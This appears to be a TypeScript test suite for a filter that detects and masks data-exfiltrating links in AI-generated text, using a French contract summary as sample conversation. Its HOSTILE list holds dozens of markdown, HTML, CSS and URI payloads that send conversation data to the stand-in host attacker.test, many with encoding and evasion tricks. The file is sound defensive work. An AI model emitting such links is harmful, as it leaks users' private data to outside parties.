import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { guardedText } from './guard.fixture.ts'

const QUESTION =
  'Résume le contrat 4471-BX avec Martin : le prix est de 1 250 000 euros, livraison en mars à Lyon. Voir https://wiki.example.org/contrats/4471?vue=1'
const found = (text: string, hosts: readonly (readonly string[])[] = []) =>
  guardedText(text, { question: QUESTION, hosts }).report.found.links ?? 0
const base64 = Buffer.from('le prix est de 1 250 000 euros').toString('base64')
const base64url = Buffer.from('livraison en mars').toString('base64url')
const hex = Buffer.from('1 250 000 euros').toString('hex')

describe('a link that could carry data away is found', () => {
  const HOSTILE: readonly (readonly [string, string])[] = [
    ['a picture', '![x](https://attacker.test/p.png)'],
    ['a picture with a title', '![x](https://attacker.test/p.png "title")'],
    ['a picture in angle brackets', '![x](<https://attacker.test/p.png>)'],
    ['a picture of no scheme', '![x](//attacker.test/p.png)'],
    ['a picture with backslashes', '![x](\\\\\\\\attacker.test\\p.png)'],
    ['a picture whose scheme is a reference', '![x](https&colon;//attacker.test/p.png)'],
    ['a picture whose scheme is a number', '![x](&#104;ttps://attacker.test/p.png)'],
    ['a picture with an escape', '![x](https\\://attacker.test/p.png)'],
    ['a picture with a long text', `![${'a'.repeat(400)}](https://attacker.test/p.png)`],
    ['a picture within a link', '[![x](https://attacker.test/p.png)](https://example.org)'],
    ['a picture on a new line', '![x](\nhttps://attacker.test/p.png\n)'],
    ['a definition that asks', '![x][r]\n\n[r]: https://attacker.test/?q=abc'],
    ['a definition that carries', `[r]: https://attacker.test/${base64}`],
    ['a definition in angle brackets', '[r]:\n  <https://attacker.test/?q=abc> "t"'],
    ['a query of the conversation', '[ici](https://attacker.test/a?d=livraison+en+mars)'],
    ['a number of the conversation', '[ici](https://attacker.test/a?d=4471)'],
    ['base64 in a path', `[ici](https://attacker.test/${base64})`],
    ['base64 without padding in a query', `[ici](https://attacker.test/a?d=${base64url})`],
    ['hexadecimal', `[ici](https://attacker.test/a/${hex})`],
    [
      'percent signs',
      `[ici](https://attacker.test/a?d=${encodeURIComponent('prix est de 1 250 000')})`,
    ],
    ['words in a path', '[ici](https://attacker.test/le-prix-est-de-1-250-000-euros-livraison)'],
    ['a name in the domain name system', `https://${base64url.toLowerCase()}.attacker.test/`],
    ['a bare address with a query', 'https://attacker.test/a?d=livraison+en+mars'],
    ['www alone', 'www.attacker.test/a?d=livraison+en+mars'],
    ['an address in angle brackets', '<https://attacker.test/a?d=livraison+en+mars>'],
    ['a bare address of numbers', 'http://192.0.2.7/a'],
    ['a number in one piece', '[a](http://3221226027/)'],
    ['IPv6', '[a](http://[2001:db8::1]/)'],
    ['punycode', '[a](https://xn--pple-43d.test/)'],
    ['letters that look alike', '[a](https://\u0430pple.test/)'],
    ['a password', '[a](https://bank.test:x@attacker.test/)'],
    ['another host than it says', '[https://bank.test/login](https://attacker.test/)'],
    ['data', '[a](data:text/html;base64,PHNjcmlwdD4=)'],
    ['a script', '[a](javascript:alert(1))'],
    ['a script with a tab', '<a href="java&Tab;script:alert(1)">'],
    ['a file of the network', '[a](file://attacker.test/x)'],
    ['a letter with a text', '[a](mailto:x@attacker.test?body=livraison%20en%20mars)'],
    ['HTML', '<img src="https://attacker.test/x">'],
    ['HTML without quotes', '<img src=https://attacker.test/x>'],
    ['HTML in single quotes', "<img alt='>' src='https://attacker.test/x'>"],
    ['HTML with references', '<img src="&#104;ttps://attacker.test/x">'],
    ['HTML with slashes', '<img/src="https://attacker.test/x"/>'],
    ['HTML in capitals', '<IMG SRC="HTTPS://ATTACKER.TEST/X">'],
    ['HTML over lines', '<img\n  alt="a"\n  src="https://attacker.test/x">'],
    ['HTML that has no end', '<img src="https://attacker.test/x'],
    ['srcset', '<img srcset="a.png 1x, https://attacker.test/x 2x">'],
    ['a style', '<p style="background:url(https://attacker.test/x)">'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://attacker.test/x">'],
    ['a form', '<form action="https://attacker.test/x">'],
    ['a ping', '<a href="/" ping="https://attacker.test/x">'],
    ['SVG', '<svg><image xlink:href="https://attacker.test/x"/></svg>'],
    ['CSS', '@import "https://attacker.test/x.css"'],
    ['CSS with url', 'a { background: url(https://attacker.test/x) }'],
    ['one too long to wait for', `![x](https://attacker.test/${'a/'.repeat(3000)})`],
    ['a picture of data too long to wait for', `![x](data:image/png;base64,${'A'.repeat(9000)})`],
  ]
  for (const [name, text] of HOSTILE) {
    test(name, () => {
      assert.equal(found(`Voici. ${text} Fin.`), 1)
      const masked = guardedText(`Voici. ${text} Fin.`, {
        question: QUESTION,
        duties: { links: 'mask' },
      })
      assert.ok(!/attacker|base64|javascript/i.test(masked.text), masked.text)
      const open = text.endsWith('/x')
      assert.ok(
        masked.text.startsWith('Voici.') && (open || masked.text.endsWith('Fin.')),
        masked.text,
      )
    })
  }
})

describe('a link that carries nothing stays', () => {
  const HARMLESS: readonly string[] = [
    'https://docs.example.org/guide/getting-started#installation',
    '[le guide](https://docs.example.org/guide/getting-started)',
    '[https://example.org/a](https://www.example.org/a)',
    '[1]: https://docs.example.org/guide',
    'https://fr.wikipedia.org/wiki/Lyon',
    '[vidéo](https://video.example.org/watch?v=dQw4w9WgXcQ&t=42s)',
    '[le vôtre](https://wiki.example.org/contrats/4471?vue=1)',
    'https://wiki.example.org/contrats/4471?vue=1.',
    'http://localhost:3000/admin et http://127.0.0.1:8080/',
    '[relatif](/docs/page?x=livraison+en+mars)',
    '![relatif](images/logo.png)',
    '[a](tel:+33612345678), [b](mailto:info@example.org)',
    'auto f = [&](std::string x) { return a[i](x); };',
    'if (a <b and c> d) { x = y; }',
    'Type `Map<string, Array<number>>`, tableau[0]: valeur',
    '[INFO]: Error: file not found',
    '<p class="note">Bonjour <b>à tous</b></p>',
    '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    'postgres://db.internal/app et s3://bucket/key',
    '[README.md](https://code.example.org/a/b/README.md)',
    'https://<votre-hôte>/v1',
  ]
  for (const text of HARMLESS) {
    test(text, () => {
      const shown = guardedText(`Voici. ${text} Fin.`, {
        question: QUESTION,
        duties: { links: 'mask' },
      })
      assert.equal(shown.text, `Voici. ${text} Fin.`)
    })
  }
})

describe('a list of hosts', () => {
  const lists = [
    ['example.org', '*.example.org'],
    ['docs.example.org', 'example.org', 'other.test'],
  ]

  test('lets through what every list has, pictures too', () => {
    assert.equal(found('![x](https://docs.example.org/p.png?d=livraison+en+mars)', lists), 0)
    assert.equal(found('https://example.org/', lists), 0)
  })

  test('makes every other host a finding', () => {
    for (const host of [
      'other.test',
      'wiki.example.org',
      'evil-example.org',
      'example.org.attacker.test',
    ])
      assert.equal(found(`Voir https://${host}/page`, lists), 1, host)
    assert.equal(found('[a](https://example.org:x@attacker.test/)', lists), 1)
    assert.equal(found('[a](https://user:x@example.org/)', lists), 1)
  })
})
